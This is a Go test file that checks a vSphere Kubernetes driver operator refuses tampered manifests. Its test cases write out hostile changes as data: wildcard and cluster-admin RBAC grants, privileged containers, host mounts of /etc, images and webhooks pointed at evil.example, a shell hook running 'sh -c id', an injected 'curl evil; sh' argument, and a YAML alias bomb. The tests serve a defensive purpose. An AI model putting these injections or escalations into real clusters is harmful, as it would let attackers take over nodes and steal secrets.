package render_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/api/fault"
	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/api/image"
	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/matrix"
	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/operator/internal/render"
	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/test/must"
	"github.com/vmware-tanzu/vsphere-kubernetes-drivers-operator/test/upstream"
)

// relock makes the lock, and what the matrix lists, those of manifests that were
// changed, as whoever signs both could.
func relock(t *testing.T, in *render.Input) {
	t.Helper()
	for i := range in.Lock.Releases {
		r := &in.Lock.Releases[i]
		for j := range r.Manifests {
			r.Manifests[j].Digest = image.DigestOf(in.Manifests[r.Path(r.Manifests[j])])
		}
	}
	in.Matrix = upstream.Listed(t, in.Manifests)
}

// inputOf is a site that wants the release of a manifest, DRIVER/VERSION/FILE.
func inputOf(t *testing.T, file string) render.Input {
	t.Helper()
	parts := strings.Split(file, "/")
	return input(t, release(t, matrix.Driver(parts[0]), parts[1]))
}

// Each case changes one thing in a release's manifest, or adds an object to it, and has
// the matrix list just that: nothing that is listed is wider than the ceiling.
func TestHostileManifestsAreRefused(t *testing.T) {
	const csi, cpi, cni = "csi/3.5.1/vsphere-csi-driver.yaml", "cpi/1.33.1/vsphere-cloud-controller-manager.yaml", "cni/2.7.0/antrea.yml"
	cases := map[string]struct{ file, from, to, want string }{
		"another kind":                 {csi, "", "apiVersion: batch/v1\nkind: Job\nmetadata: {name: j, namespace: vmware-system-csi}\nspec: {}", "Job vmware-system-csi/j: is not part"},
		"another name":                 {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: root, namespace: vmware-system-csi}", "is not part"},
		"another namespace":            {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: vsphere-csi-node, namespace: kube-system}", "is not part"},
		"another group":                {csi, "apiVersion: storage.k8s.io/v1\nkind: CSIDriver", "apiVersion: evil.io/v1\nkind: CSIDriver", "is not part"},
		"a finalizer":                  {csi, "metadata:\n  name: csi.vsphere.vmware.com\n", "metadata:\n  name: csi.vsphere.vmware.com\n  finalizers: [a.b/c]\n", "finalizers"},
		"wildcard verbs":               {csi, "resources: [nodes, pods], verbs: [get, list, watch]", `resources: [nodes, pods], verbs: ["*"]`, "may * nodes"},
		"wildcard resources":           {csi, "resources: [nodes, pods]", `resources: ["*"]`, "may get *"},
		"wildcard groups":              {csi, "apiGroups: [coordination.k8s.io]", `apiGroups: ["*"]`, "leases in *"},
		"secrets":                      {csi, "resources: [nodes, pods]", "resources: [nodes, secrets]", "may get secrets"},
		"exec":                         {csi, "resources: [nodes, pods]", "resources: [nodes, pods/exec]", "may get pods/exec"},
		"escalate":                     {csi, "verbs: [create, get, update, watch, list]", "verbs: [escalate]", "may escalate"},
		"impersonate":                  {cpi, "verbs: [list, patch,", "verbs: [impersonate, patch,", "may impersonate services"},
		"more than the known wildcard": {cpi, "resources: [services]", "resources: [services, nodes, pods]", "may patch pods"},
		"cluster-admin":                {csi, "kind: ClusterRole, name: vsphere-csi-controller-role", "kind: ClusterRole, name: cluster-admin", "permissions of ClusterRole cluster-admin"},
		"rights for others":            {csi, "{kind: ServiceAccount, name: vsphere-csi-controller,", "{kind: Group, name: \"system:authenticated\",", "gives permissions to Group"},
		"aggregation":                  {csi, "metadata:\n  name: vsphere-csi-controller-role\n", "metadata:\n  name: vsphere-csi-controller-role\n  labels: {rbac.authorization.k8s.io/aggregate-to-view: \"true\"}\n", "built-in role"},
		"secrets of others by name":    {cni, "antrea-bgp-passwords", "bootstrap-token", "may get secrets"},
		"privileged controller":        {csi, "runAsNonRoot: true", "privileged: true", "container vsphere-csi-controller is privileged"},
		"another host path":            {csi, "path: /sys/block", "path: /etc", "mounts /etc of the node"},
		"a host path beyond":           {csi, "path: /var/lib/kubelet/plugins_registry", "path: /var/lib/kubelet/../..", "mounts /var/lib/kubelet/../.."},
		"the node's processes":         {csi, "hostNetwork: true", "hostPID: true", "node's processes"},
		"the node's network":           {csi, "dnsPolicy: Default", "hostNetwork: true", "node's network"},
		"another account":              {csi, "serviceAccountName: vsphere-csi-controller", "serviceAccountName: default-admin", "ServiceAccount default-admin"},
		"another Secret":               {csi, "secretName: vsphere-config-secret", "secretName: other", "mounts Secret other"},
		"a capability":                 {csi, "add: [SYS_ADMIN]", "add: [SYS_ADMIN, SYS_PTRACE]", "capability SYS_PTRACE"},
		"another vCenter":              {csi, "name: X_CSI_MODE", "name: VSPHERE_VCENTER", "overrides the configuration"},
		"a proxy":                      {csi, "name: X_CSI_MODE", "name: https_proxy", "overrides the configuration"},
		"another image":                {csi, "registry.k8s.io/csi-vsphere/driver:v3.5.1", "evil.example/driver:v3.5.1", "evil.example"},
		"a field that is not known":    {csi, "hostNetwork: true", "hostNetwork: true\n      hostNetworkk: true", "cannot be read"},
		"a service to outside":         {csi, "  selector: {app: vsphere-csi-controller}", "  externalIPs: [1.2.3.4]\n  selector: {app: vsphere-csi-controller}", "outside of the cluster"},
		"tokens of other pods":         {csi, "podInfoOnMount: false", "podInfoOnMount: false\n  tokenRequests: [{audience: x}]", "tokens of other pods"},
		"a webhook to a URL":           {"csi/3.5.1/validatingwebhook.yaml", "service: {name: vsphere-webhook-svc, namespace: vmware-system-csi, path: /validate}", `url: "https://evil.example"`, "sends objects to a URL"},
		"a webhook that sees Secrets":  {"csi/3.5.1/validatingwebhook.yaml", "[persistentvolumes]", "[secrets]", "sees secrets"},
		"an API served by another":     {cni, "group: controlplane.antrea.io", "group: metrics.k8s.io", "named unlike"},
		"an object twice":              {csi, "", "apiVersion: v1\nkind: ServiceAccount\nmetadata: {name: vsphere-csi-node, namespace: vmware-system-csi}", "twice"},
		"a hook":                       {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          lifecycle: {postStart: {exec: {command: [sh, -c, id]}}}\n", "container csi-attacher has hooks"},
		"a program of its own":         {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          command: [sh, -c, id]\n", `container csi-attacher runs "sh -c id"`},
		"arguments that are no flags":  {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, `- "-c"` + "\n            - \"curl evil; sh\"", `the argument "curl evil; sh", which is not a flag`},
		"a flag with a command":        {csi, `- "--fss-namespace=$(CSI_NAMESPACE)"`, "- \"--hook=`id`\"", "which is not a flag"},
		"another probe":                {csi, "              - /csi-node-driver-registrar\n", "              - /bin/sh\n", `runs "/bin/sh`},
		"another command of the CNI":   {cni, "start_ovs", "sh", `container antrea-ovs runs "sh"`},
		"another probe of the CNI":     {cni, "timeout 10 container_liveness_probe ovs", "id", `runs "/bin/sh -c id"`},
		"rules of other roles":         {csi, "metadata:\n  name: vsphere-csi-controller-role\n", "metadata:\n  name: vsphere-csi-controller-role\naggregationRule: {}\n", "takes the rules of other roles"},
		"a service without pods":       {csi, "  selector: {app: vsphere-csi-controller}\n", "", "selects no pods"},
		"an API of an unknown server":  {cni, "spec:\n  group: controlplane.antrea.io", "spec:\n  insecureSkipTLSVerify: true\n  group: controlplane.antrea.io", "check of its server's certificate off"},
		"a named node":                 {csi, "hostNetwork: true", "hostNetwork: true\n      nodeName: a", "names a node"},
		"another host name":            {csi, "hostNetwork: true", "hostNetwork: true\n      hostAliases: [{ip: 1.2.3.4, hostnames: [vc]}]", "host aliases"},
		"a sysctl":                     {csi, "dnsPolicy: Default", "dnsPolicy: Default\n      securityContext: {sysctls: [{name: a, value: b}]}", "sets sysctls"},
		"a pod as a process":           {csi, "dnsPolicy: Default", "dnsPolicy: Default\n      securityContext: {windowsOptions: {hostProcess: true}}", "runs as a process of the node"},
		"a container as a process":     {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          securityContext: {windowsOptions: {hostProcess: true}}\n", "container csi-attacher runs as a process of the node"},
		"more privileges":              {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          securityContext: {allowPrivilegeEscalation: true}\n", "container csi-attacher may gain privileges"},
		"all of /proc":                 {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          securityContext: {procMount: Unmasked}\n", "sees all of /proc"},
		"another kind of volume":       {csi, "secret: {secretName: vsphere-config-secret}", "nfs: {server: a, path: /}", "of a kind that the driver does not need"},
		"an environment":               {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          envFrom: [{secretRef: {name: a}}]\n", "takes its environment from an object"},
		"a variable from a Secret":     {csi, "{fieldRef: {fieldPath: metadata.namespace}}", "{secretKeyRef: {name: a, key: b}}", "takes variable"},
		"a block device":               {csi, "        - name: csi-attacher\n", "        - name: csi-attacher\n          volumeDevices: [{name: a, devicePath: /dev/a}]\n", "has block devices"},
		"a Secret with content":        {cni, "type: kubernetes.io/service-account-token", "type: kubernetes.io/service-account-token\nstringData: {a: b}", "token of one of the driver's own accounts"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			in := inputOf(t, c.file)
			original := string(in.Manifests[c.file])
			changed := original + "\n---\n" + c.to + "\n"
			if c.from != "" {
				require.Contains(t, original, c.from)
				changed = strings.ReplaceAll(original, c.from, c.to)
			}
			in.Manifests[c.file] = []byte(changed)
			relock(t, &in)
			_, err := render.Render(in)
			require.ErrorContains(t, err, c.want)
			require.NotEmpty(t, fault.HintOf(err))
		})
	}
}

// What is within the ceiling and not listed is refused all the same: each case is
// within it.
func TestWhatTheMatrixDoesNotListIsRefused(t *testing.T) {
	const csi, cpi = "csi/3.5.1/vsphere-csi-driver.yaml", "cpi/1.33.1/vsphere-cloud-controller-manager.yaml"
	cases := map[string]struct{ file, from, to, want string }{
		"an argument":               {csi, `"--fss-namespace=$(CSI_NAMESPACE)"`, `"--fss-namespace=$(CSI_NAMESPACE)", "--plugin=/dev/evil"`, "not list: spec.template.spec.containers[vsphere-csi-controller].args"},
		"a command of its image":    {csi, "        - name: vsphere-csi-node\n", "        - name: vsphere-csi-node\n          command: [/csi-node-driver-registrar]\n", "not list: spec.template.spec.containers[vsphere-csi-node].command"},
		"a mount":                   {csi, "{name: registration-dir, mountPath: /registration}", "{name: registration-dir, mountPath: /registration}\n            - {name: plugin-dir, mountPath: /etc}", "not list: spec.template.spec.containers[node-driver-registrar].volumeMounts: {mountPath: /etc"},
		"a variable":                {csi, "name: X_CSI_MODE", "name: X_CSI_OTHER", "not list: spec.template.spec.containers"},
		"a known privilege unasked": {csi, "        - name: liveness-probe\n", "        - name: liveness-probe\n          securityContext: {runAsUser: 0}\n", "runAsUser: 0"},
		"a user that is dropped":    {csi, "runAsNonRoot: true", "runAsNonRoot: false", "lacks what the matrix lists: spec.template.spec.containers"},
		"a verb":                    {csi, "verbs: [create, get, update, watch, list]", "verbs: [create, get, update, watch, list, delete]", "not list: may create, delete, get"},
		"a resource":                {cpi, "resources: [services]", "resources: [services, endpoints]", "has what the matrix does not list: may"},
		"a port of the node":        {csi, "containerPort: 9808", "containerPort: 9809", "containerPort: 9809"},
		"another value":             {csi, "priorityClassName: system-node-critical", "priorityClassName: other", "not list: spec.template.spec.priorityClassName: other"},
		"a container's name":        {"snapshot-controller/8.2.0/setup-snapshot-controller.yaml", "- name: snapshot-controller", "- name: renamed", "containers[renamed].name"},
		"an annotation":             {csi, "  name: vsphere-csi-node\n  namespace: vmware-system-csi\n", "  name: vsphere-csi-node\n  namespace: vmware-system-csi\n  annotations: {a: b}\n", "not list: metadata.annotations.a: b"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			in := inputOf(t, c.file)
			require.Contains(t, string(in.Manifests[c.file]), c.from)
			in.Manifests[c.file] = []byte(strings.Replace(string(in.Manifests[c.file]), c.from, c.to, 1))
			require.ErrorContains(t, must.Err(render.Render(in)), c.want)
			relock(t, &in)
			mustRender(t, in) // a new release needs a new list and no new program
		})
	}
}

// withoutList takes a release out of what a matrix lists.
func withoutList(doc *matrix.Document) *matrix.Document {
	none := *doc
	none.Needs = nil
	return &none
}

func TestAReleaseThatNoMatrixListsIsRefused(t *testing.T) {
	id := release(t, matrix.CSI, "3.5.1") // with a file that no matrix lists: the operator's own does not speak of it
	in := input(t, id)
	in.Matrix = withoutList(in.Matrix)
	_, err := render.Render(in)
	require.Equal(t, fault.Refused, fault.ReasonOf(err))
	require.Contains(t, fault.HintOf(err), "vdo-bundle matrix add")
	require.Error(t, render.Listed(in.Lock, id, in.Matrix))
}

// A bundle whose matrix lists nothing is held to the list of the matrix that the
// operator carries, for manifests of the very bytes alone.
func TestBundlesOfOldMatricesAreHeldToTheCarriedList(t *testing.T) {
	const file = "cpi/1.33.1/vsphere-cloud-controller-manager.yaml"
	id := release(t, matrix.CPI, "1.33.1")
	in := input(t, id)
	in.Lock, in.Manifests = contentsIn(t, upstream.Dir(t), id)
	in.Matrix = withoutList(in.Matrix)
	require.NoError(t, render.Listed(in.Lock, id, in.Matrix))
	mustRender(t, in)
	in.Manifests[file] = append(in.Manifests[file], "\n# another byte\n"...)
	for i := range in.Lock.Releases[0].Manifests {
		in.Lock.Releases[0].Manifests[i].Digest = image.DigestOf(in.Manifests[file])
	}
	require.ErrorContains(t, render.Listed(in.Lock, id, in.Matrix), "is not the manifest whose needs the matrix lists")
}

func TestManifestsThatCannotBeReadAreRefused(t *testing.T) {
	const file = "cpi/1.33.1/vsphere-cloud-controller-manager.yaml"
	bomb := "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
	for _, level := range []string{"b", "c", "d", "e", "f", "g"} {
		prev := string(level[0] - 1)
		bomb += level + ": &" + level + " [" + strings.TrimSuffix(strings.Repeat("*"+prev+",", 10), ",") + "]\n"
	}
	cases := map[string]string{
		"no YAML":        "a: [",
		"an alias bomb":  bomb,
		"depth":          strings.Repeat("[", 100) + strings.Repeat("]", 100),
		"a key twice":    "apiVersion: v1\nkind: A\nkind: B\nmetadata: {name: x}",
		"no name":        "apiVersion: v1\nkind: ConfigMap",
		"no kind":        "apiVersion: v1\nmetadata: {name: x}",
		"a List":         "apiVersion: v1\nkind: List\nmetadata: {name: x}\nitems: []",
		"a scalar":       "text",
		"size":           strings.Repeat("# x\n", 3<<20),
		"too many":       strings.Repeat("apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\n---\n", 501),
		"self reference": "a: &a [*a]\n",
		"bad separator":  "apiVersion: v1\n--- x\nkind: A",
		"binary":         "\x00\x01\x02",
	}
	for name, text := range cases {
		t.Run(name, func(t *testing.T) {
			in := inputOf(t, file)
			in.Manifests[file] = []byte(text)
			must.Fail(t, must.Err(render.Render(in)), fault.Corrupt, file)
		})
	}
}
